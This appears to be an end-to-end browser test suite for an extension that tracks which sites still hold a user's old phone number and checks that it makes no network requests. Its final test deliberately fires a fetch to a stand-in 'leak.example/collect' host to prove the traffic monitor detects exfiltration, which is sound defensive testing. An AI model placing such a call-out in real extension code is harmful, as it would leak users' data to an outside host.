/** The main job from installation to the last row, in a real browser, on the sites' real host names. */
import { afterAll, beforeAll, expect, inject, test } from 'vitest';
import type { Tab } from '../support/browsers/driver.ts';
import { until } from '../support/browsers/until.ts';
import { accountPage, type Layout, otherPage } from './support/account-pages.ts';
import {
  addNumber,
  NEW,
  OLD,
  openPopup,
  readFacts,
  readRows,
  retireNumber,
  untilReady,
  untilRow,
  untilSeen,
} from './support/screens.ts';
import { accountPageOf, createWorld, otherPageOf, type World } from './support/world.ts';

/** Ten sites, and how their pages join label and number here. */
const SITES: { id: string; label: string; layout: Layout }[] = [
  { id: 'weibo', label: '绑定手机', layout: 'row' },
  { id: 'jd', label: '验证手机', layout: 'table' },
  { id: 'taobao', label: '绑 定 手 机：', layout: 'row' },
  { id: 'meituan', label: '手机号：', layout: 'form' },
  { id: '12306', label: '手机号：', layout: 'definition-list' },
  { id: 'alipay', label: '手机号码', layout: 'table' },
  { id: 'apple', label: '受信任的电话号码', layout: 'definition-list' },
  { id: 'netease-mail', label: '安全手机', layout: 'row' },
  { id: 'zhihu', label: '已验证手机', layout: 'form' },
  { id: 'qq', label: '密保手机', layout: 'sentence' },
];
const OUTSIDE = 'https://no-catalogue-site.example/';

let world: World;
/** The account page the journey is on, and a page beside it that is on another site. */
let browsing: Tab;
let elsewhere: Tab;

const show = (id: string, number: string) => {
  const site = SITES.find((one) => one.id === id);
  if (site) world.serve(accountPageOf(id), accountPage(site.label, number, site.layout));
};

beforeAll(async () => {
  world = await createWorld(inject('browser'));
  for (const { id } of SITES) {
    show(id, OLD.mask);
    world.serve(otherPageOf(id), otherPage(id));
  }
  world.serve(OUTSIDE, otherPage('Elsewhere'));
});
afterAll(() => world?.close());

test('installing opens the first page', async () => {
  const welcome = await world.driver.waitForTab('the first page', (address) =>
    address.startsWith(`${world.driver.extensionOrigin}/welcome.html`),
  );
  await untilReady(welcome);
  expect(await welcome.evaluate(() => document.querySelectorAll('[data-number]').length)).toBe(0);
});

test('two numbers are added and one is retired in favour of the other', async () => {
  const welcome = await world.driver.waitForTab('the first page', (address) =>
    address.startsWith(`${world.driver.extensionOrigin}/welcome.html`),
  );
  await addNumber(welcome, OLD, '旧号');
  await addNumber(welcome, NEW);
  await retireNumber(welcome, OLD, NEW);
  expect(
    await welcome.evaluate(() =>
      [...document.querySelectorAll<HTMLElement>('[data-number]')].map(({ dataset }) => [
        dataset.number,
        dataset.status,
      ]),
    ),
  ).toEqual([
    [OLD.e164, 'retiring'],
    [NEW.e164, 'active'],
  ]);
  await welcome.close();
});

test('account pages are read as they are visited', async () => {
  browsing = await world.driver.openTab(OUTSIDE);
  for (const { id } of SITES) {
    await browsing.goto(accountPageOf(id));
    await untilSeen(world.driver, id, OLD.mask);
  }
});

test('the popup lists them, most dangerous first, each with the page where it is changed', async () => {
  const popup = await openPopup(world.driver);
  const rows = await popup.waitFor((wanted) => {
    const shown = [...document.querySelectorAll<HTMLElement>('[data-row]')];
    return shown.filter((row) => row.dataset.state === 'open').length >= wanted && shown.length;
  }, SITES.length);
  expect(rows).toBeGreaterThanOrEqual(SITES.length);
  const ours = (await readRows(popup)).filter(({ site }) => SITES.some(({ id }) => id === site));
  expect(ours.every(({ state }) => state === 'open')).toBe(true);
  expect(
    Object.fromEntries(
      ['opens-others', 'money', 'sms-login', 'rest'].map((group) => [
        group,
        ours
          .filter((row) => row.group === group)
          .map(({ site }) => site)
          .sort(),
      ]),
    ),
  ).toEqual({
    'opens-others': ['apple', 'netease-mail'],
    money: ['alipay'],
    'sms-login': ['12306', 'jd', 'meituan', 'taobao', 'weibo', 'zhihu'],
    rest: ['qq'],
  });
  const order = ['opens-others', 'money', 'sms-login', 'rest'];
  const places = ours.map(({ group }) => order.indexOf(group));
  expect(places).toEqual([...places].sort((a, b) => a - b));
  expect(
    await popup.evaluate(() =>
      document.querySelector('[data-row="meituan"] [data-action="change"]')?.getAttribute('href'),
    ),
  ).toMatch(/^https:\/\/www\.meituan\.com\//);
  await popup.close();
});

test('the badge is lit on other pages of a bound site and nowhere else', async () => {
  elsewhere = await world.driver.openTab(OUTSIDE);
  await browsing.goto(otherPageOf('meituan'));
  await until('the badge on a bound site', () => world.driver.badgeText(browsing));
  expect(await world.driver.badgeText(elsewhere)).toBe('');
});

test('the popup opened there shows that site first', async () => {
  const popup = await openPopup(world.driver, browsing);
  await popup.waitFor(() => !!document.querySelector('[data-group="here"] [data-row]'));
  expect((await readRows(popup))[0]).toEqual({ site: 'meituan', state: 'open', group: 'here' });
  await popup.close();
});

test('a page that shows the new number turns its row to rebound, and the badge goes out', async () => {
  const popup = await openPopup(world.driver);
  await untilRow(popup, 'meituan', 'open');
  show('meituan', NEW.mask);
  await browsing.activate();
  await browsing.goto(accountPageOf('meituan'));
  await untilSeen(world.driver, 'meituan', NEW.mask);
  await untilRow(popup, 'meituan', 'rebound');
  await until('the badge to go out', async () => (await world.driver.badgeText(browsing)) === '');
  const here = await openPopup(world.driver, browsing);
  await here.waitFor(() => !!document.querySelector('[data-group="here"] [data-row]'));
  expect((await readRows(here)).filter(({ site }) => site === 'meituan')).toEqual([
    { site: 'meituan', state: 'rebound', group: 'here' },
  ]);
  await here.close();
  await browsing.activate();
  await browsing.goto(otherPageOf('jd'));
  await until('the badge of a site still bound', () => world.driver.badgeText(browsing));
  await browsing.goto(otherPageOf('meituan'));
  await until('no badge on the rebound site', async () => (await world.driver.badgeText(browsing)) === '');
  await popup.close();
});

test('a number that changes on the open page is seen without a reload', async () => {
  await browsing.activate();
  await browsing.goto(accountPageOf('weibo'));
  await untilSeen(world.driver, 'weibo', OLD.mask);
  await browsing.evaluate((mask) => {
    const number = document.querySelector('#number');
    number?.addEventListener('click', () => {
      number.textContent = mask;
    });
  }, NEW.mask);
  await browsing.click('#number');
  await untilSeen(world.driver, 'weibo', NEW.mask);
  await until('the badge to go out', async () => (await world.driver.badgeText(browsing)) === '');
  const popup = await openPopup(world.driver);
  await untilRow(popup, 'weibo', 'rebound');
  await popup.close();
});

test('a background that was killed answers the same after', async () => {
  const before = await openPopup(world.driver);
  const rows = await readRows(before);
  await before.close();
  const facts = (await readFacts(world.driver)).length;

  await world.driver.killBackground();
  const popup = await openPopup(world.driver);
  expect(await readRows(popup)).toEqual(rows);
  await popup.close();

  await world.driver.killBackground();
  await browsing.activate();
  await browsing.goto(otherPageOf('jd'));
  await until('the badge after the background was killed', () => world.driver.badgeText(browsing));

  await world.driver.killBackground();
  show('jd', NEW.mask);
  await browsing.goto(accountPageOf('jd'));
  await untilSeen(world.driver, 'jd', NEW.mask);
  expect((await readFacts(world.driver)).length).toBe(facts + 1);
});

test('a restart of the browser with the same profile loses nothing', async () => {
  const before = await openPopup(world.driver);
  await untilRow(before, 'jd', 'rebound');
  const rows = await readRows(before);
  const facts = (await readFacts(world.driver)).map(({ id }) => id).sort();

  await world.driver.restart();
  const popup = await openPopup(world.driver);
  expect(await readRows(popup)).toEqual(rows);
  expect((await readFacts(world.driver)).map(({ id }) => id).sort()).toEqual(facts);

  browsing = await world.driver.openTab(otherPageOf('taobao'));
  await until('the badge after the restart', () => world.driver.badgeText(browsing));
  show('taobao', NEW.mask);
  await browsing.goto(accountPageOf('taobao'));
  await untilSeen(world.driver, 'taobao', NEW.mask);
  await untilRow(popup, 'taobao', 'rebound');
});

test('the extension itself made no request in the whole journey', async () => {
  expect(world.findStrangeTraffic()).toEqual([]);
  // The same look-out must catch a request that an extension does make, or it proves nothing.
  await world.driver.inExtension(async (address) => {
    await fetch(address, { mode: 'no-cors' }).catch(() => undefined);
  }, 'https://leak.example/collect?n=1');
  expect(world.findStrangeTraffic()).toContain('connection to leak.example');
});
